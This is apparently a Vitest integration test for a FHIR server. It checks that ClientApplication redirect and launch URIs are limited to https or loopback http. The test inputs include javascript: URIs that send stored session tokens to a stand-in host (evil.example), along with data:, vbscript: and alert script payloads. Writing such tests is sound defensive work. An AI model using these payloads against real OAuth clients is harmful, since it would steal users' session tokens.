import { beforeAll, describe, expect, it } from 'vitest';
import { baseUrl, http, issueExpressions, issueText } from '../../tests/integration/fhirClient';
import { postJson, registerProjectOwner } from '../../tests/integration/accounts';
import { pkcePair } from '../../tests/integration/signIn';

/* eslint-disable @typescript-eslint/no-explicit-any -- the auth answers are free-form JSON */

/**
 * Issue 14 item 6: a project admin registered `javascript:` as a ClientApplication's redirect URI;
 * the /oauth page then ran it with the signed-in user's session. Only https (and http on loopback)
 * may be registered or used.
 */
describe('ClientApplication redirect URIs are https (or http on loopback)', () => {
  let owner: Awaited<ReturnType<typeof registerProjectOwner>>;
  beforeAll(async () => {
    owner = await registerProjectOwner();
  });

  const create = (body: Record<string, unknown>) =>
    http<any>('POST', 'fhir/R4/ClientApplication', {
      token: owner.tokens.access_token,
      body: { resourceType: 'ClientApplication', ...body },
    });

  async function countNamed(name: string) {
    const found = await http<any>('GET', `fhir/R4/ClientApplication?name:exact=${encodeURIComponent(name)}`, {
      token: owner.tokens.access_token,
    });
    return (found.body.entry ?? []).length;
  }

  it('refuses a javascript: redirectUri with the field path, and stores nothing', async () => {
    const name = `Token thief ${Date.now()}`;
    const refused = await create({
      name,
      redirectUri: 'javascript:fetch("https://evil.example/?t="+localStorage.getItem("hearth.tokens"))',
    });
    expect(refused.status).toBe(400);
    expect(issueExpressions(refused.body)).toEqual(['ClientApplication.redirectUri']);
    expect(issueText(refused.body)).toBe('Redirect URI scheme "javascript:" is not allowed: use https');
    expect(await countNamed(name)).toBe(0);
  });

  it('names each bad entry of redirectUris: data:, vbscript:, custom schemes and plain http elsewhere', async () => {
    const refused = await create({
      name: 'Mixed',
      redirectUris: [
        'https://app.example/cb',
        'data:text/html,<script>alert(1)</script>',
        'vbscript:msgbox(1)',
        'myapp://cb',
        'http://app.example/cb',
        'http://localhost:3000/cb',
      ],
    });
    expect(refused.status).toBe(400);
    expect(issueExpressions(refused.body)).toEqual([
      'ClientApplication.redirectUris[1]',
      'ClientApplication.redirectUris[2]',
      'ClientApplication.redirectUris[3]',
      'ClientApplication.redirectUris[4]',
    ]);
  });

  it('accepts https and loopback http, and refuses an update to javascript:, keeping the stored address', async () => {
    const created = await create({
      name: 'Good app',
      redirectUri: 'https://app.example/cb',
      redirectUris: ['https://app.example/cb', 'http://127.0.0.1:8080/cb', 'http://[::1]/cb'],
    });
    expect(created.status).toBe(201);
    const changed = await http<any>('PUT', `fhir/R4/ClientApplication/${created.body.id}`, {
      token: owner.tokens.access_token,
      body: { ...created.body, redirectUri: 'javascript:alert(1)' },
    });
    expect(changed.status).toBe(400);
    expect(issueExpressions(changed.body)).toEqual(['ClientApplication.redirectUri']);
    const stored = await http<any>('GET', `fhir/R4/ClientApplication/${created.body.id}`, {
      token: owner.tokens.access_token,
    });
    expect(stored.body.redirectUri).toBe('https://app.example/cb');
    // The same rule for a super admin, and in $validate.
    const asAdmin = await http<any>('POST', 'fhir/R4/ClientApplication', {
      body: { resourceType: 'ClientApplication', name: 'Admin app', redirectUri: 'javascript:alert(1)' },
    });
    expect(asAdmin.status).toBe(400);
    const validated = await http<any>('POST', 'fhir/R4/ClientApplication/$validate', {
      body: { resourceType: 'ClientApplication', name: 'Check', redirectUri: 'data:text/html,x' },
    });
    expect(issueExpressions(validated.body)).toContain('ClientApplication.redirectUri');
  });

  it('refuses a script launchUri too (the chart sends clinicians there), naming it and storing nothing', async () => {
    const name = `Launch thief ${Date.now()}`;
    const refused = await create({
      name,
      redirectUri: 'https://app.example/cb',
      launchUri: 'javascript:fetch("https://evil.example/?t="+localStorage.getItem("hearth.tokens"))//',
    });
    expect(refused.status).toBe(400);
    expect(issueExpressions(refused.body)).toEqual(['ClientApplication.launchUri']);
    expect(issueText(refused.body)).toBe('Launch URI scheme "javascript:" is not allowed: use https');
    expect(await countNamed(name)).toBe(0);
    const plainHttp = await create({ name, launchUri: 'http://apps.example/launch' });
    expect(issueText(plainHttp.body)).toBe('Launch URI must use https (http only for localhost or 127.0.0.1)');
    const accepted = await create({ name, launchUri: 'https://apps.example/launch?client=1' });
    expect(accepted.status).toBe(201);
  });

  it('authorize and auth/login refuse a script address, registered or not', async () => {
    const created = await create({ name: 'Registered', redirectUri: 'https://app.example/cb' });
    const authorize = await fetch(
      `${baseUrl()}oauth2/authorize?${new URLSearchParams({
        client_id: created.body.id,
        redirect_uri: 'javascript:alert(1)',
        response_type: 'code',
        code_challenge: pkcePair().challenge,
        code_challenge_method: 'S256',
      })}`,
      { redirect: 'manual' },
    );
    expect(authorize.status).toBe(400);
    expect(authorize.headers.get('location')).toBeNull();
    const login = await postJson('auth/login', {
      email: owner.email,
      password: owner.password,
      clientId: created.body.id,
      redirectUri: 'javascript:alert(1)',
      codeChallenge: pkcePair().challenge,
      codeChallengeMethod: 'S256',
    });
    expect(login.status).toBe(400);
    expect(issueExpressions(login.body)).toEqual(['redirectUri']);
    expect(login.body.code).toBeUndefined();
  });
});
